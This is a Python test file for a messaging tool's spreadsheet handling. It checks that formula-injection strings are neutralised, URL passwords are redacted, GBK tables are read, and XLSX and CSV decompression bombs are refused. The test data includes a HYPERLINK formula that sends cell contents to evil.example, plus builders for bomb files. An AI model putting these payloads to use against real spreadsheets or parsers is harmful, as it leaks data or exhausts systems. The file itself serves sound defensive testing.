"""Spreadsheets in and out: no formula from outside text ever runs; districts tables as offices save them."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import logging
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook

from xfpush.campaigns.districts import read_table
from xfpush.cli import main
from xfpush.errors import InputError
from xfpush.partners.adapters import load_adapter
from xfpush.partners.ledger import Ledger
from xfpush.partners.packaging import build_package
from xfpush.partners.safe import redact_url, safe_cell

from .conftest import assert_refused, attack

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(1)",
           "\t=1", "\r=1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_cell_prefixes_formula_starts(text) -> None:
    assert safe_cell(text) == "'" + text
    assert safe_cell("南湖镇 =1") == "南湖镇 =1" and safe_cell(3) == 3


def test_redact_url_keeps_what_is_not_secret() -> None:
    assert redact_url("http://alice:pw@host:8080/p?q=1") == "http://alice:***@host:8080/p?q=1"
    assert redact_url("smtp://h:25?to=a@b.cn&token=xyz") == "smtp://h:25?to=a@b.cn&token=***"
    assert redact_url("file:///srv/drop") == "file:///srv/drop"


def hostile_ledger(path: Path) -> Path:
    ledger = Ledger(path)
    for n, text in enumerate(HOSTILE):
        key = f"{n:064d}"
        ledger.open(key, message_id=text, adapter="carrier-sms",
                    destination=f"http://alice:old-secret-{n}@partner.example/upload",
                    package=text, package_sha256="0" * 64, approval=text)
        ledger.record(key, "acknowledged", "ok", receipt_id=text)
    ledger.close()
    return path


def test_report_xlsx_and_csv_hold_no_formula_and_no_secret(tmp_path) -> None:
    ledger = hostile_ledger(tmp_path / "ledger.sqlite")
    out = tmp_path / "report.xlsx"
    result = CliRunner().invoke(main, ["report", "--ledger", str(ledger), "--format", "xlsx",
                                       "-o", str(out)])
    assert result.exit_code == 0, result.output
    cells = [cell for row in load_workbook(out).active.iter_rows() for cell in row]
    assert len(cells) > len(HOSTILE) * 5
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert not [c.value for c in cells if str(c.value or "").startswith(FORMULA_STARTS)]
    assert any(c.value == "'" + HOSTILE[0] for c in cells)
    listing = CliRunner().invoke(main, ["report", "--ledger", str(ledger), "--format", "csv"])
    rows = list(csv.reader(io.StringIO(listing.output.lstrip("\ufeff"))))
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    for text in (listing.output, *(str(c.value) for c in cells)):
        assert "old-secret" not in text
    assert "http://alice:***@partner.example/upload" in listing.output


ADAPTER = """
id = "sheet-test"
name = "表格测试"
needs = ["sms:standard"]
transport = "file"

[[files]]
from = "sms/standard.txt"
to = "短信/{name}"

[[extras]]
kind = "csv"
path = "文件清单.csv"
columns = ["文件", "渠道", "文字"]
"""


def hand_made_pack(folder: Path, text: str) -> Path:
    (folder / "sms").mkdir(parents=True)
    data = text.encode("utf-8")
    (folder / "sms" / "standard.txt").write_bytes(data)
    message = "id: sheet-test\ntitle: 表格测试\nissuer: 测试\n".encode()
    (folder / "message.yaml").write_bytes(message)
    manifest = {"xfpush_version": "0", "message": {"id": "sheet-test",
                                                   "sha256": hashlib.sha256(message).hexdigest()},
                "assets": [{"channel": "sms", "profile": "standard", "path": "sms/standard.txt",
                            "media_type": "text/plain", "sha256": hashlib.sha256(data).hexdigest(),
                            "bytes": len(data), "text": text}]}
    (folder / "manifest.json").write_text(json.dumps(manifest, ensure_ascii=False), "utf-8")
    return folder


@pytest.mark.parametrize("text", HOSTILE[:4])
def test_partner_csv_neutralises_message_text(tmp_path, text) -> None:
    adapter_dir = tmp_path / "adapters" / "sheet-test"
    adapter_dir.mkdir(parents=True)
    (adapter_dir / "adapter.toml").write_text(ADAPTER, "utf-8")
    package = build_package(hand_made_pack(tmp_path / "pack", text), load_adapter(adapter_dir))
    archive = zipfile.ZipFile(io.BytesIO(package.zip_bytes))
    rows = list(csv.reader(io.StringIO(archive.read("文件清单.csv").decode("utf-8-sig"))))
    assert rows[1][2] == "'" + text
    assert archive.read("短信/standard.txt").decode() == text  # the asset itself is untouched


def header_only(path: Path) -> Path:
    path.write_text("district,issuer,qr_url\n\n", "utf-8")
    return path


def test_a_table_with_only_a_header_is_an_input_error(tmp_path) -> None:
    with pytest.raises(InputError, match="只有表头"):
        read_table(header_only(tmp_path / "d.csv"))
    book = Workbook()
    book.active.append(["district", "issuer"])
    book.save(tmp_path / "d.xlsx")
    with pytest.raises(InputError, match="只有表头"):
        read_table(tmp_path / "d.xlsx")


def test_batch_refuses_a_header_only_table(tmp_path) -> None:
    recipe = Path(__file__).resolve().parents[2] / "recipes" / "chongyang.yaml"
    result = CliRunner().invoke(main, ["batch", str(recipe), "--districts",
                                       str(header_only(tmp_path / "d.csv")), "-o",
                                       str(tmp_path / "out"), "--year", "2027"])
    assert result.exit_code == 2 and "只有表头" in result.output


def test_xlsx_formula_without_a_saved_result_names_the_cell(tmp_path) -> None:
    book = Workbook()
    sheet = book.active
    sheet.append(["district", "issuer", "qr_url"])
    sheet.append(["南湖镇", "南湖镇人民政府", "https://example.gov.cn/xf"])
    sheet["B3"], sheet["A3"] = '=B2&"消防站"', "北湖镇"  # openpyxl saves no cached value
    book.save(tmp_path / "d.xlsx")
    with pytest.raises(InputError, match=r"单元格 B3 是公式.*没有保存"):
        read_table(tmp_path / "d.xlsx")


def test_gbk_csv_from_excel_is_read_and_the_encoding_is_said(tmp_path, caplog) -> None:
    text = "district,issuer,qr_url\r\n南湖镇,南湖镇人民政府,https://example.gov.cn/xf\r\n"
    (tmp_path / "gbk.csv").write_bytes(text.encode("gbk"))
    with caplog.at_level(logging.WARNING):
        rows = read_table(tmp_path / "gbk.csv")
    assert rows == [{"district": "南湖镇", "issuer": "南湖镇人民政府",
                     "qr_url": "https://example.gov.cn/xf"}]
    assert "GB18030" in caplog.text
    caplog.clear()
    (tmp_path / "utf8.csv").write_bytes(text.encode("utf-8-sig"))
    assert read_table(tmp_path / "utf8.csv") == rows and "GB18030" not in caplog.text


def test_gbk_csv_errors_name_the_encoding(tmp_path) -> None:
    (tmp_path / "gbk.csv").write_bytes("区县,单位\r\n南湖镇,政府\r\n".encode("gbk"))
    with pytest.raises(InputError, match=r"按 GB18030 编码读取.*缺少 district"):
        read_table(tmp_path / "gbk.csv")


@pytest.mark.parametrize(("data", "expected"), [
    ("district\n南湖镇\n".encode() + b"\xff\xfe\n", r"第 3 行有不是 UTF-8 的字节"),
    (b"district\n\x81\x30\xff\xff\n", r"既不是 UTF-8 也不是 GBK/GB18030"),
])
def test_undecodable_tables_are_input_errors(tmp_path, data, expected) -> None:
    (tmp_path / "bad.csv").write_bytes(data)
    with pytest.raises(InputError, match=expected):
        read_table(tmp_path / "bad.csv")


# -- bombs in a districts table: refused by the real command, under the memory limit -------
SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def raw_xlsx(path: Path, sheet: str, shared: bytes | None = None) -> Path:
    """A minimal XLSX written part by part, so a test can make parts no spreadsheet program
    would (a huge declared sheet, a shared-strings part that unpacks to hundreds of MB)."""
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    parts = {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{main}.sheet.main+xml"/>'
            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{main}.worksheet+xml"/>'
            f'<Override PartName="/xl/sharedStrings.xml" ContentType="{main}.sharedStrings+xml"/>'
            "</Types>"),
        "_rels/.rels": (f'<Relationships xmlns="{REL_NS}"><Relationship Id="rId1" '
                        f'Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
        "xl/workbook.xml": (f'<workbook xmlns="{SHEET_NS}" xmlns:r="{OFFICE}"><sheets><sheet '
                            'name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{REL_NS}"><Relationship Id="rId1" Type="{OFFICE}/worksheet" '
            'Target="worksheets/sheet1.xml"/><Relationship Id="rId2" '
            f'Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'),
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{SHEET_NS}">{sheet}</worksheet>',
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
        archive.writestr("xl/sharedStrings.xml", shared or f'<sst xmlns="{SHEET_NS}"/>'.encode())
    return path


def _inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def dimension_bomb(path: Path) -> Path:
    """1.5 KB declaring 1 048 576 rows × 16 384 columns (every gap read as empty cells)."""
    return raw_xlsx(path, '<dimension ref="A1:XFD1048576"/><sheetData><row r="1">'
                    f'{_inline("A1", "district")}</row><row r="1048576">'
                    f'{_inline("XFD1048576", "x")}</row></sheetData>')


def shared_strings_bomb(path: Path, megabytes: int = 400) -> Path:
    """About 0.4 MB on disk, one shared string of ``megabytes`` MB once unpacked."""
    text = b"A" * (megabytes << 20)
    shared = (f'<sst xmlns="{SHEET_NS}" count="1"><si><t>'.encode() + text + b"</t></si></sst>")
    return raw_xlsx(path, '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData>',
                    shared)


def wide_csv(path: Path) -> Path:
    path.write_text("district,issuer\n南湖镇,\"" + "长" * 200_000 + "\n", "utf-8")
    return path


@pytest.mark.slow
@pytest.mark.parametrize(("make", "expected"), [
    (dimension_bomb, "超过 20000 行（含空行），上限 20000 行"),
    (shared_strings_bomb, "解压后有 400 MB，上限 64 MB"),
    (wide_csv, "第 2 行有一格超过 128 KB 的上限"),
], ids=["xlsx-dimension-bomb", "xlsx-shared-strings-bomb", "csv-cell-over-128kb"])
def test_table_bombs_are_refused_by_batch(tmp_path: Path, make, expected: str) -> None:
    table = make(tmp_path / ("d.csv" if make is wide_csv else "d.xlsx"))
    recipe = Path(__file__).resolve().parents[2] / "recipes" / "chongyang.yaml"
    result = attack("batch", recipe, "--districts", table, "-o", tmp_path / "out", "--year",
                    "2027", cwd=tmp_path, timeout=60)
    assert_refused(result, f"区县表 {table}", expected)
    assert not (tmp_path / "out").exists()
